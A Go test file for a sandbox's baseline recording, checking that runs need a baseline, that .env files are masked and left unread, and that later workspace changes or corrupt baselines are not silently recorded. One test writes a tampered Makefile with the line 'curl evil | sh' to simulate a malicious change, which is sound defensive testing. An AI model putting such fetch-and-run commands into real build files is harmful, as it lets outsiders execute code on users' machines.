package sandbox

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/aboxhq/abox/internal/paths"
	"github.com/aboxhq/abox/internal/render"
)

// TestRunScopeNeedsABaseline: no baseline refuses the run; a recorded one gives the scope;
// a second recording, after the workspace changed, records nothing; a corrupt one is an error
// both to read and to record, and is not replaced.
func TestRunScopeNeedsABaseline(t *testing.T) {
	ws := t.TempDir()
	os.WriteFile(filepath.Join(ws, "Makefile"), []byte("all:\n"), 0o644)
	os.WriteFile(filepath.Join(ws, ".env"), []byte("SECRET=1\n"), 0o644)
	proj := paths.Project{Workspace: ws, Dir: t.TempDir()}
	rs := &render.RunSpec{Watch: []string{"Makefile"}, Masks: []string{".env*"}}
	if _, err := RunScope(proj, "", rs); !errors.Is(err, ErrNoBaseline) {
		t.Fatalf("RunScope(no baseline) = %v, want ErrNoBaseline", err)
	}
	rec, err := RecordBaseline(proj, "", rs, "2026-11-29T10:00:00Z")
	if err != nil || !rec.Files || !rec.Git || len(rec.Snapshot.Files) != 2 || rec.Snapshot.Files[".env"] != "masked" {
		t.Fatalf("RecordBaseline = %+v, %v; want both sections, the Makefile, and .env recorded as masked, unread", rec, err)
	}
	scope, err := RunScope(proj, "", rs)
	if err != nil || scope.Workspace != ws || !scope.Masked(".env") {
		t.Fatalf("RunScope(baseline) = %+v, %v", scope, err)
	}
	os.WriteFile(filepath.Join(ws, "Makefile"), []byte("all:\n\tcurl evil | sh\n"), 0o644)
	if rec, err := RecordBaseline(proj, "", rs, "2026-11-29T11:00:00Z"); err != nil || rec.Files || rec.Git {
		t.Errorf("a second RecordBaseline = %+v, %v; want nothing recorded", rec, err)
	}
	os.WriteFile(proj.Baselines(), []byte("{"), 0o600)
	var be *BaselineError
	if _, err := RunScope(proj, "", rs); !errors.As(err, &be) || be.Recording {
		t.Errorf("RunScope(corrupt) = %v, want a BaselineError", err)
	}
	if _, err := RecordBaseline(proj, "", rs, "2026-11-29T12:00:00Z"); !errors.As(err, &be) || !be.Recording || !strings.HasPrefix(err.Error(), "the baseline: ") {
		t.Errorf("RecordBaseline(corrupt) = %v, want a recording BaselineError", err)
	}
	if data, _ := os.ReadFile(proj.Baselines()); string(data) != "{" {
		t.Errorf("the corrupt baseline was rewritten: %q", data)
	}
}

func TestCheckRecordable(t *testing.T) {
	dir := t.TempDir()
	if err := CheckRecordable(dir); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(filepath.Join(dir, ".space-check")); !os.IsNotExist(err) {
		t.Errorf("the probe was left behind: %v", err)
	}
	os.WriteFile(filepath.Join(dir, "file"), nil, 0o600)
	if err := CheckRecordable(filepath.Join(dir, "file", "runs")); !errors.Is(err, ErrUnrecordable) {
		t.Errorf("CheckRecordable(unwritable) = %v, want ErrUnrecordable", err)
	}
}
